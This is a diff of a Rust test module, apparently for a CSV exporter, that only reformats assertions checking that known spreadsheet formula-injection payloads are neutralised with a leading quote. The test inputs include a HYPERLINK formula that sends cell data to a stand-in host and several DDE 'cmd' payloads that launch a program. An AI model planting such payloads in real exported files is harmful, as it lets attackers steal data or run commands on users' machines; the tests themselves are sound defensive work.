@@ -138,15 +138,23 @@ mod tests {
     #[test]
     fn known_payloads_are_defused() {
         assert_eq!(
-            one(Field::Text("=HYPERLINK(\"http://x.example/?d=\"&A1,\"Klicka\")")),
+            one(Field::Text(
+                "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Klicka\")"
+            )),
             "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Klicka\"\")\"\n"
         );
         assert_eq!(
             one(Field::Text("+cmd|' /C calc'!A0")),
             "\"'+cmd|' /C calc'!A0\"\n"
         );
-        assert_eq!(one(Field::Text("@SUM(1+9)*cmd|' /C calc'!A0")), "\"'@SUM(1+9)*cmd|' /C calc'!A0\"\n");
-        assert_eq!(one(Field::Text("-2+3+cmd|' /C calc'!A0")), "\"'-2+3+cmd|' /C calc'!A0\"\n");
+        assert_eq!(
+            one(Field::Text("@SUM(1+9)*cmd|' /C calc'!A0")),
+            "\"'@SUM(1+9)*cmd|' /C calc'!A0\"\n"
+        );
+        assert_eq!(
+            one(Field::Text("-2+3+cmd|' /C calc'!A0")),
+            "\"'-2+3+cmd|' /C calc'!A0\"\n"
+        );
     }
 
     #[test]
